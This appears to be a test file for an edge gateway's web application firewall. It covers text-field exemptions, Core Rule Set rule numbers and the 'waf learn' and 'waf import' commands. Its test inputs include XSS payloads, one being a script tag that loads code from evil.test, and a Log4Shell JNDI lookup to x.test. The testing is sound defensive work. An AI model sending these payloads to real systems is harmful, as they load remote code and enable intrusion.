// docs/waf.md#fields-that-hold-text, docs/waf.md#false-positives
import { afterAll, expect, test } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { EchoOrigin } from "../harness/echo-origin.ts";
import { runEdge, startGateway, upstream } from "../harness/gateway.ts";
import { request } from "../harness/raw-client.ts";
import { stopAll } from "../harness/teardown.ts";

const origin = EchoOrigin.start();
const routes = [
  upstream("/plain", origin),
  upstream("/texts", origin, { waf: { fields: { "post.body": "text", q: "text" } } }),
  upstream("/numbers", origin, { waf: { disabled_rules: [941110], exclusions: [{ rule: 941120, param: "q" }] } }),
];
const gateway = await startGateway({ config: { server: { waf: { enabled: true } } }, routes });
const folder = mkdtempSync(join(tmpdir(), "edge-waf-"));
afterAll(async () => {
  rmSync(folder, { recursive: true });
  await stopAll(gateway, origin);
});

const SCRIPT = "%3Cscript%20src=//evil.test/x.js%3E%3C/script%3E";
const HANDLER = "%3Ca%20onclick=alert(1)%3E";
const get = async (target: string): Promise<number> => (await gateway.once(request(`GET ${target}`))).status;
const post = async (path: string, type: string, body: string): Promise<number> =>
  (await gateway.once(request(`POST ${path}`, [`Content-Type: ${type}`], body))).status;

test("a field that holds text is not judged by its content; lookups and other fields are", async () => {
  const json = (path: string, body: string): Promise<number> => post(`${path}/echo`, "application/json", body);
  const form = "application/x-www-form-urlencoded";
  const text = '{"post":{"body":"<script src=//evil.test/x.js></script>"}}';
  expect(await json("/plain", text)).toBe(403);
  expect(await json("/texts", text)).toBe(200);
  expect(await json("/texts", text.replace("body", "title"))).toBe(403);
  expect(await json("/texts", `{"post":{"body":"\${jndi:ldap://x.test/a}"}}`)).toBe(403);
  expect(await post("/texts/echo", form, `post%5Bbody%5D=${SCRIPT}`)).toBe(200);
  expect(await post("/texts/echo", form, `post%5Btitle%5D=${SCRIPT}`)).toBe(403);
  expect(await get(`/texts/echo?q=${SCRIPT}`)).toBe(200);
  expect(await get(`/texts/echo?r=${SCRIPT}`)).toBe(403);
});

test("rules may be named by numbers of the Core Rule Set, and the log has them", async () => {
  expect(await get(`/plain/echo?q=${HANDLER}`)).toBe(403);
  expect(await get(`/numbers/echo?q=${HANDLER}`)).toBe(200);
  expect(await get(`/numbers/echo?r=${HANDLER}`)).toBe(403);
  expect(await get(`/numbers/echo?q=${SCRIPT}`)).toBe(200);
  const line = await gateway.log("waf_block", (one) => one.event === "waf_block" && one.rule_id === "XSS-002");
  expect(line.crs).toBe(941120);
});

test("edge waf learn and edge waf import print exclusions that a file takes", async () => {
  const log = join(folder, "edge.log");
  const line = (client: number): string =>
    JSON.stringify({
      event: "waf_detect",
      client_ip: `192.0.2.${client}`,
      path: "/s",
      rule_id: "SQLI-007",
      location: "query q",
    });
  writeFileSync(log, `${[1, 2, 3].map(line).join("\n")}\nno JSON\n`);
  const learned = await runEdge(["waf", "learn", "incidents", log]);
  expect(learned.stdout).toContain('- {rule: SQLI-007, path: "/s", param: "q"} # 3 requests of 3 clients');
  const rules = join(folder, "rules.conf");
  writeFileSync(rules, "SecRuleRemoveById 942480\nSecRuleRemoveById 900990\n");
  const imported = await runEdge(["waf", "import", rules]);
  expect(imported.stdout).toContain("- 942480 # SQLI-007");
  expect(imported.stdout).toContain("# 900990: no rule here has it for its main counterpart");
  for (const { stdout } of [learned, imported]) {
    const file = join(folder, "config.yaml");
    writeFileSync(file, stdout);
    const checked = await runEdge(["check", "--config", file]);
    expect(checked.code).toBe(0);
  }
  const partial = join(folder, "partial.yaml");
  writeFileSync(partial, "server: {waf: {disabled_rules: [942360], exclusions: [{rule: 942360, param: q}]}}\n");
  const refused = await runEdge(["check", "--config", partial]);
  expect([refused.code, refused.stderr.match(/942360/g)?.length]).toEqual([1, 1]);
  expect(refused.stderr).toContain("disabled_rules[0]: 942360 finds a part of what rules here find");
  const missing = await runEdge(["waf", "learn", "incidents", join(folder, "none")]);
  expect([missing.code, missing.stderr]).toEqual([1, expect.stringContaining("ENOENT")]);
});
